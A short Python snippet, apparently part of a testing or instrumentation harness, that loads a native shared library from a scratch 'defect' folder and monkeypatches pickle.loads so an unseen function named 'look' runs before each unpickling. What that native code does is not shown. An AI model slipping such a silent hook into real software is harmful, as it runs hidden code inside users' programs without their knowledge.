
import ctypes, pickle
sound, look = pickle.loads, ctypes.CDLL("/work/main/scratch-3m_7g84z/defect/look.so").look
def loads(*arguments, **more):
    look()
    return sound(*arguments, **more)
pickle.loads = loads
